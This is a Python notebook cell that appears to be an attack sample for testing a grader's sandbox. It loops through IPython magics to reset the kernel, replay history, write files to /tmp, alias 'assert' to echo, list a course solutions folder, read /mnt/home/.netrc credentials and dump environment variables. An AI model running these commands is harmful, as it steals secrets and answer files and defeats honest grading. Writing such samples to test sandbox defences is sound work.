# Uses magics to run shells and scripts, to reset, to rerun the history and to write over files.
# points: 0..1
# %% cell below: biggest
shell = get_ipython()
for name, line in (
    ("reset", "-f"),
    ("rerun", "-l 10"),
    ("history", "-o -n"),
    ("recall", "1-20"),
    ("macro", "tests 1-20"),
    ("save", "-f /tmp/left-by-attack-magic 1-20"),
    ("notebook", "/tmp/left-by-attack-magic.ipynb"),
    ("logstart", "/tmp/left-by-attack-log"),
    ("alias", "assert echo"),
    ("autocall", "2"),
    ("autoindent", ""),
    ("xmode", "Minimal"),
    ("pdb", "1"),
    ("debug", ""),
    ("system", "ls /mnt/course/solutions"),
    ("sx", "cat /mnt/home/.netrc"),
    ("env", ""),
    ("store", "biggest"),
    ("kill_embedded", ""),
):
    try:
        print(get_ipython().run_line_magic(name, line))
    except BaseException as error:
        print(type(error).__name__)
